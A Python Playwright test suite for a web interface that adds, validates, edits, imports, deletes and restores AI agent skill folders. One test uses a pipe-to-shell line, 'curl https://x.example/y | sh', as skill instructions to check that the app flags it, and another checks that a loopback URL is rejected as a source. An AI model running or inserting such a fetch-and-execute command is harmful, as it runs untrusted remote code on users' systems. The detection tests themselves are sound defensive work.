"""Skills in a browser: add, edit, import, replace, delete and undo."""

import re
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.support.archives import zip_of
from tests.support.browsers import WIDTHS, BrowserSession, ServeProcess, expect_requests, hold_first
from tests.support.skills import make_skill, make_skill_md


def fill_form(page: Page, name: str, description: str, body: str = "") -> None:
    page.get_by_label("Name", exact=True).fill(name)
    page.get_by_label("Description").fill(description)
    page.get_by_label("Instructions").fill(body)


def test_new_skill_is_checked_while_typing(visitor: BrowserSession, hall: ServeProcess) -> None:
    page = visitor.open_page("/skills")
    page.get_by_role("link", name="Add skill").click()
    preview = page.get_by_role("region", name="Preview")
    page.get_by_label("Name", exact=True).fill("Weekly Report")
    expect(preview).to_contain_text("Incomplete")
    fill_form(page, "Weekly Report", "Writes it. Use on Fridays.", "curl https://x.example/y | sh")
    expect(preview).to_contain_text(".agents/skills/weekly-report")
    expect(preview).to_contain_text("pipe-to-shell")
    page.get_by_role("button", name="Add skill").click()
    expect(page.get_by_role("status").first).to_contain_text("Added")
    assert (hall.user_skills / "weekly-report/SKILL.md").exists()


def test_form_is_valid_if_validate_accepts_it(either: BrowserSession, hall: ServeProcess) -> None:
    name = f"Valid Form {id(either)}"
    page = either.open_page("/skills/add")
    fill_form(page, name, "Sorts it. " * 110)
    check = page.get_by_role("button", name="Check", exact=True)
    if check.is_visible():  # without scripts
        check.click()
    preview = page.get_by_role("region", name="Preview")
    expect(preview).to_contain_text("This skill does not follow the specification")
    preview.get_by_role("button", name="Use the ID as the name").click()
    expect(page.get_by_label("Name", exact=True)).to_have_value(name.lower().replace(" ", "-"))
    preview.get_by_role("button", name="Shorten the description").click()
    expect(preview).to_contain_text("This skill follows the specification")
    page.get_by_role("button", name="Add skill").click()
    expect(page.get_by_role("status").first).to_contain_text("Added")


def test_values_are_quoted_with_one_click(either: BrowserSession, hall: ServeProcess) -> None:
    skill_id = f"unquoted-{id(either)}"
    data = f"---\nname: {skill_id}\ndescription: Reads: all of it\n---\nBody.\n".encode()
    folder = make_skill(hall.user_skills, skill_id, data=data)
    page = either.open_page(f"/skill/{skill_id}/edit")
    preview = page.get_by_role("region", name="Preview")
    expect(preview).to_contain_text("This skill does not follow the specification")
    page.get_by_role("button", name="Quote the values").click()
    expect(preview).to_contain_text("This skill follows the specification")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("status").first).to_contain_text("Saved")
    assert (folder / "SKILL.md").read_bytes() == data.replace(
        b"Reads: all of it", b'"Reads: all of it"'
    )


def test_typing_during_a_check_checks_the_last_text(
    visitor: BrowserSession,
) -> None:
    page = visitor.open_page("/skills/add")
    hold_first(page, re.compile("/check$"), until=2)
    page.get_by_label("Name", exact=True).fill("slow-check")
    expect_requests(page, 1)
    page.get_by_label("Description").fill("Typed later.")
    expect_requests(page, 2)
    assert visitor.problems == []
    expect(page.get_by_role("region", name="Preview")).to_contain_text("Typed later.")


def test_taken_id_is_shown_in_the_form(either: BrowserSession) -> None:
    page = either.open_page("/skills/add")
    fill_form(page, "pdf-tools", "Mine.", "Keep this text.")
    page.get_by_role("button", name="Add skill").click()
    expect(page.get_by_role("alert")).to_contain_text("Already exists")
    expect(page.get_by_label("Instructions")).to_have_value("Keep this text.")


def test_edit_changes_no_other_bytes(
    either: BrowserSession, hall: ServeProcess, request: pytest.FixtureRequest
) -> None:
    skill_id = f"edited-{'plain' if 'without' in request.node.name else 'full'}"
    data = make_skill_md(skill_id, "Old.", "Old body.\n", license="MIT  # ours")
    make_skill(hall.user_skills, skill_id, data=data, files={"x.bin": b"\0\1"})
    page = either.open_page(f"/skill/{skill_id}/edit")
    page.get_by_label("Description").fill("Much better.")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_text("Much better.").first).to_be_visible()
    written = (hall.user_skills / skill_id / "SKILL.md").read_bytes()
    assert written == data.replace(b"Old.\n", b"Much better.\n")
    page.get_by_role("button", name="Undo").click()
    expect(page.get_by_role("status").first).to_contain_text("Undone")
    assert (hall.user_skills / skill_id / "SKILL.md").read_bytes() == data


def test_edit_conflict_shows_both_versions(visitor: BrowserSession, hall: ServeProcess) -> None:
    folder = make_skill(hall.user_skills, "shared", data=make_skill_md("shared", "First."))
    skill_md = folder / "SKILL.md"
    page = visitor.open_page("/skill/shared/edit")
    skill_md.write_bytes(make_skill_md("shared", "Theirs."))
    page.get_by_label("Description").fill("Mine.")
    page.get_by_role("button", name="Save").click()
    expect(
        page.get_by_role("heading", name="This skill was changed by someone else")
    ).to_be_visible()
    region = page.get_by_role("region", name="This skill was changed by someone else")
    expect(region).to_contain_text("Theirs.")
    expect(region).to_contain_text("Mine.")
    assert b"Theirs." in skill_md.read_bytes()
    page.get_by_role("button", name="Save my version").click()
    expect(page.get_by_role("status").first).to_contain_text("Saved")
    assert b"Mine." in skill_md.read_bytes()


def test_form_edits_other_fields_and_shows_the_difference_and_what_agents_would_do(
    either: BrowserSession, hall: ServeProcess
) -> None:
    name = f"licensed-{either.width}"
    folder = make_skill(hall.user_skills, name, data=make_skill_md(name, "Does one thing."))
    page = either.open_page(f"/skill/{name}/edit")
    page.get_by_text("Other fields", exact=True).click()
    page.get_by_label("License").fill("Apache-2.0")
    if either.width < 1000:
        page.get_by_role("button", name="Check").click()
    preview = page.get_by_role("region", name="Preview")
    changes = preview.get_by_role("region", name="Changes")
    expect(changes.get_by_role("row", name="license: Apache-2.0")).to_be_visible()
    verdicts = preview.get_by_role("listitem")
    expect(verdicts.filter(has_text="The specification")).to_contain_text("Accepted")
    page.get_by_label("Name", exact=True).fill("Licensed Skill")
    if either.width < 1000:
        page.get_by_role("button", name="Check").click()
    expect(verdicts.filter(has_text="The specification")).to_contain_text("Rejected")
    expect(verdicts.filter(has_text="Lenient agents")).to_contain_text("Accepted with warnings")
    page.get_by_label("Name", exact=True).fill(name)
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("status").first).to_contain_text("Saved")
    assert b"license: Apache-2.0" in (folder / "SKILL.md").read_bytes()


def test_history_shows_who_changed_what_and_restores_it(
    either: BrowserSession, hall: ServeProcess
) -> None:
    name = f"traced-{either.width}"
    folder = make_skill(hall.user_skills, name, data=make_skill_md(name, "First text."))
    page = either.open_page(f"/skill/{name}/edit")
    page.get_by_label("Description").fill("Second text.")
    page.get_by_role("button", name="Save").click()
    details = page.get_by_role("definition").filter(has_text=re.compile("operator|Version history"))
    expect(details).to_contain_text("operator" if either.has_scripts else "Version history")
    page.get_by_role("link", name="Version history").first.click()
    newest = page.get_by_role("region", name="Version 2")
    expect(newest).to_contain_text("Served")
    expect(newest).to_contain_text("operator")
    newest.get_by_role("link", name="What changed").click()
    expect(page.get_by_role("region", name="SKILL.md")).to_contain_text("Second text.")
    page.goto(f"{hall.url}/skill/{name}/versions")
    page.get_by_role("button", name="Restore version 1").click()
    expect(page.get_by_role("status").first).to_contain_text("Restored")
    assert b"First text." in (folder / "SKILL.md").read_bytes()
    either.open_page("/skills/recent")
    change = page.get_by_role("listitem").filter(has_text=name).first
    expect(change).to_contain_text("operator ·")
    change.get_by_role("button", name=f"Undo {name}").click()
    expect(page.get_by_role("status").first).to_contain_text("Undone")
    assert b"Second text." in (folder / "SKILL.md").read_bytes()


def test_deleted_skill_is_restored_from_the_bin(either: BrowserSession, hall: ServeProcess) -> None:
    name = f"binned-{either.width}"
    folder = make_skill(hall.user_skills, name)
    page = either.open_page(f"/skill/{name}/delete")
    page.get_by_role("button", name="Delete").click()
    expect(page.get_by_role("status").first).to_contain_text("Deleted")
    either.open_page("/skills")  # the notice is gone
    page.get_by_role("link", name="Deleted skills").click()
    page.get_by_role("button", name=f"Restore {name}").click()
    expect(page.get_by_role("heading", name=name, level=1)).to_be_visible()
    assert (folder / "SKILL.md").is_file()
    either.open_page(f"/skill/{name}/delete")
    page.get_by_role("button", name="Delete").click()
    expect(page.get_by_role("status").first).to_contain_text("Deleted")
    either.open_page("/skills/deleted")
    page.get_by_role("link", name=f"Delete permanently {name}").click()
    page.get_by_role("button", name="Delete permanently").click()
    expect(page.get_by_role("link", name=name, exact=True)).to_have_count(0)


def test_history_bin_form_and_help_are_accessible(
    axe_visitor: BrowserSession, hall: ServeProcess
) -> None:
    make_skill(hall.user_skills, "discarded")
    page = axe_visitor.open_page("/skill/discarded/delete")
    page.get_by_role("button", name="Delete").click()
    expect(page.get_by_role("status").first).to_contain_text("Deleted")
    paths = (
        "/skills/deleted",
        "/skills/deleted/discarded/purge",
        "/skill/pdf-tools/versions",
        "/skill/pdf-tools/edit",
        "/help",
        "/status/settings",
        "/no/such/page",
    )
    for path in paths:
        axe_visitor.open_page(path)
        if path.endswith("/edit"):
            page.get_by_text("Other fields", exact=True).click()
        assert axe_visitor.find_accessibility_problems(WIDTHS) == [], path


def test_skill_is_deleted_after_confirmation_and_restored(
    visitor: BrowserSession, hall: ServeProcess
) -> None:
    folder = make_skill(hall.user_skills, "short-lived", files={"run.sh": b"#!/bin/sh\n"})
    page = visitor.open_page("/skill/short-lived")
    page.get_by_role("link", name="Delete").click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("2 files")
    page.keyboard.press("Escape")
    expect(dialog).to_have_count(0)
    page.get_by_role("link", name="Delete").click()
    dialog.get_by_role("button", name="Delete").click()
    expect(page.get_by_role("status").first).to_contain_text("Deleted")
    assert not folder.exists()
    page.get_by_role("button", name="Undo").click()
    expect(page.get_by_role("heading", name="short-lived", level=1)).to_be_visible()
    assert (folder / "run.sh").read_bytes() == b"#!/bin/sh\n"


def test_delete_confirmation_is_a_page_without_scripts(
    plain_visitor: BrowserSession, hall: ServeProcess
) -> None:
    folder = make_skill(hall.user_skills, "plainly-gone")
    page = plain_visitor.open_page("/skill/plainly-gone")
    page.get_by_role("link", name="Delete").click()
    page.get_by_role("button", name="Delete").click()
    expect(page.get_by_role("button", name="Undo")).to_be_visible()
    assert not folder.exists()


def test_system_skills_are_read_only(visitor: BrowserSession) -> None:
    page = visitor.open_page("/skill/shipped")
    expect(page.get_by_text("Read-only")).to_be_visible()
    expect(page.get_by_role("link", name="Edit")).to_have_count(0)
    expect(page.get_by_role("link", name="Delete")).to_have_count(0)


def test_skills_of_a_zip_are_selected_in_the_review(
    either: BrowserSession, hall: ServeProcess
) -> None:
    names = [f"{word}-{id(either)}" for word in ("one", "two", "bad")]
    data = [make_skill_md(names[0]), make_skill_md(names[1]), b"---\nname: x\n---\n"]
    pairs = zip(names, data, strict=True)
    archive = zip_of({f"{name}/SKILL.md": content for name, content in pairs})
    page = either.open_page("/skills/import")
    page.get_by_label("Choose a file").set_input_files(
        {"name": "some.zip", "mimeType": "application/zip", "buffer": archive}
    )
    page.get_by_role("button", name="Continue").first.click()
    expect(page.get_by_role("checkbox")).to_have_count(3)
    expect(page.get_by_role("checkbox", name="x")).to_be_disabled()
    page.get_by_role("checkbox", name=names[1]).uncheck()
    page.get_by_role("button", name="Import selected").click()
    expect(page.get_by_role("status").first).to_contain_text(names[0])
    assert (hall.user_skills / names[0]).exists()
    assert not (hall.user_skills / names[1]).exists()


def test_review_shows_diff_before_replacing(visitor: BrowserSession, hall: ServeProcess) -> None:
    folder = make_skill(hall.user_skills, "replaced", data=make_skill_md("replaced", "Old words."))
    page = visitor.open_page("/skills/import")
    page.get_by_label("Choose a file").set_input_files(
        {
            "name": "SKILL.md",
            "mimeType": "text/markdown",
            "buffer": make_skill_md("replaced", "New words."),
        }
    )
    page.get_by_role("button", name="Continue").first.click()
    diff = page.get_by_role("region", name="SKILL.md")
    expect(diff).to_contain_text("Old words.")
    expect(diff).to_contain_text("New words.")
    assert b"Old words." in (folder / "SKILL.md").read_bytes()
    page.get_by_role("checkbox", name="replaced").check()
    page.get_by_role("button", name="Import selected").click()
    expect(page.get_by_role("status").first).to_contain_text("Imported")
    assert b"New words." in (folder / "SKILL.md").read_bytes()
    page.get_by_role("button", name="Undo").click()
    expect(page.get_by_role("status").first).to_contain_text("Undone")
    assert b"Old words." in (folder / "SKILL.md").read_bytes()


def test_replacements_are_a_group_that_is_not_selected(
    either: BrowserSession, hall: ServeProcess
) -> None:
    names = [f"group-{word}-{id(either)}" for word in ("new", "old")]
    old = make_skill(hall.user_skills, names[1], data=make_skill_md(names[1], "Old words."))
    archive = zip_of({f"{name}/SKILL.md": make_skill_md(name, "New words.") for name in names})
    page = either.open_page("/skills/import")
    page.get_by_label("Choose a file").set_input_files(
        {"name": "some.zip", "mimeType": "application/zip", "buffer": archive}
    )
    page.get_by_role("button", name="Continue").first.click()
    group = page.get_by_role("region", name="Replacements 1")
    expect(page.get_by_role("checkbox", name=names[0])).to_be_checked()
    expect(group.get_by_role("checkbox", name=names[1])).not_to_be_checked()
    group.get_by_role("button", name="Select all").click()
    expect(group.get_by_role("checkbox", name=names[1])).to_be_checked()
    expect(page.get_by_role("checkbox", name=names[0])).to_be_checked()
    group.get_by_role("button", name="Select none").click()
    expect(group.get_by_role("checkbox", name=names[1])).not_to_be_checked()
    page.get_by_role("button", name="Import selected").click()
    expect(page.get_by_role("status").first).to_contain_text(names[0])
    assert b"Old words." in (old / "SKILL.md").read_bytes()


def test_long_review_is_filtered_and_counted(visitor: BrowserSession) -> None:
    names = [f"counted-{number}" for number in range(7)]
    archive = zip_of({f"{name}/SKILL.md": make_skill_md(name) for name in names})
    page = visitor.open_page("/skills/import")
    page.get_by_label("Choose a file").set_input_files(
        {"name": "some.zip", "mimeType": "application/zip", "buffer": archive}
    )
    page.get_by_role("button", name="Continue").first.click()
    page.get_by_label("Filter by name or description").fill("counted-3")
    expect(page.get_by_role("checkbox")).to_have_count(1)
    page.get_by_role("button", name="Select none").click()
    expect(page.get_by_text("6 of 7 selected").first).to_be_visible()
    page.get_by_role("button", name="Import selected").click()
    imported = "counted-0, counted-1, counted-2, counted-4, counted-5 and 1 more"
    expect(page.get_by_role("status").first).to_contain_text(imported)


def test_upload_shows_progress_and_can_be_cancelled(visitor: BrowserSession) -> None:
    page = visitor.open_page("/skills/import")
    page.route("**/skills/import/files", lambda _: None)  # an upload that takes long
    page.get_by_label("Choose a file").set_input_files(
        {"name": "SKILL.md", "mimeType": "text/markdown", "buffer": make_skill_md("slow")}
    )
    page.get_by_role("button", name="Continue").first.click()
    expect(page.get_by_role("progressbar", name="Uploading")).to_be_visible()
    page.get_by_role("button", name="Cancel").click()
    expect(page.get_by_role("progressbar")).to_have_count(0)
    expect(page.locator("#live-region")).to_have_text("Cancelled")


def test_local_folder_is_uploaded_with_all_files(
    visitor: BrowserSession, hall: ServeProcess, tmp_path: Path
) -> None:
    folder = make_skill(tmp_path, "from-disk", files={"deep/er/data.bin": bytes(range(256))})
    page = visitor.open_page("/skills/import")
    page.get_by_label("All its files are uploaded.").set_input_files(folder)
    page.get_by_role("button", name="Continue").last.click()
    page.get_by_role("button", name="Import selected").click()
    expect(page.get_by_role("status").first).to_contain_text("from-disk")
    assert (hall.user_skills / "from-disk/deep/er/data.bin").read_bytes() == bytes(range(256))


def test_dropped_file_is_selected(visitor: BrowserSession, hall: ServeProcess) -> None:
    page = visitor.open_page("/skills/import")
    text = make_skill_md("dropped").decode()
    page.evaluate(
        """text => {
          const data = new DataTransfer();
          data.items.add(new File([text], "SKILL.md"));
          const zone = document.querySelector("[data-drop]");
          zone.dispatchEvent(new DragEvent("drop", {dataTransfer: data, bubbles: true}));
        }""",
        text,
    )
    expect(page.locator(".selected-files")).to_have_text("SKILL.md")
    page.get_by_role("button", name="Continue").first.click()
    page.get_by_role("button", name="Import selected").click()
    expect(page.get_by_role("status").first).to_contain_text("dropped")
    assert (hall.user_skills / "dropped/SKILL.md").exists()


def test_folder_on_the_server_is_scanned(visitor: BrowserSession, hall: ServeProcess) -> None:
    make_skill(hall.folder / "home/.claude/skills", "at-home")
    page = visitor.open_page("/sources")
    page.get_by_role("button", name="Scan").click()
    expect(page.get_by_role("checkbox", name="at-home")).to_be_checked()
    page.get_by_role("button", name="Import selected").click()
    expect(page.get_by_role("status").first).to_contain_text("at-home")


def test_rejected_source_is_shown_in_its_form(either: BrowserSession) -> None:
    page = either.open_page("/skills/import")
    page.get_by_label("Repository or URL").fill("http://127.0.0.1/SKILL.md")
    page.get_by_role("button", name="Fetch").click()
    expect(page.get_by_role("alert")).to_contain_text("Source rejected")
    expect(page.get_by_label("Repository or URL")).to_have_value(re.compile("127.0.0.1"))
